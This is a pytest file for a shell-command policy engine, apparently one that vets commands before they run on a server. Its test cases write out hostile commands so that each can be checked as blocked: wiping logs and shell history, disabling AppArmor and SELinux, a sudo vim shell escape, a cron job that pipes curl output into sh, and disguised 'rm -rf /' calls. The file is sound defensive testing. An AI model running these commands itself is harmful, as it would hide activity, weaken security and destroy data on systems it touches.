"""Issue 7, third pass: log tampering, security controls turned off, shell escapes under sudo,
persistence and network-but-read-only package queries are judged by what they do."""

from __future__ import annotations

import pytest

from shturman.domain.models import Decision, local_server
from shturman.policy import Policy

CASES = [
    ("sed -i 's/x/y/' /var/log/nginx/error.log", Decision.BLOCK),  # log tampering
    ("truncate -s0 /var/log/auth.log", Decision.BLOCK),
    ("history -c", Decision.BLOCK),
    ("unset HISTFILE", Decision.BLOCK),
    ("aa-disable /etc/apparmor.d/usr.sbin.nginx", Decision.BLOCK),
    ("setenforce 0", Decision.BLOCK),
    ("sudo vim -c '!sh'", Decision.BLOCK),
    ("echo '* * * * * curl x|sh' | crontab -", Decision.BLOCK),
    ("echo x > /var/log/nginx/access.log", Decision.CONFIRM),
    ("pip list --outdated", Decision.ALLOW),
    ("crontab -l", Decision.ALLOW),
]


@pytest.mark.parametrize(("cmd", "expected"), CASES, ids=[c for c, _ in CASES])
def test_decision(policy: Policy, cmd: str, expected: Decision) -> None:
    assert policy.check(cmd, local_server()).decision is expected


@pytest.mark.parametrize("cmd", ["$(which rm) -rf /", "`command -v rm` -rf /"])
def test_a_command_name_that_is_not_knowable_is_never_allowed(policy: Policy, cmd: str) -> None:
    assert policy.check(cmd, local_server()).decision is not Decision.ALLOW
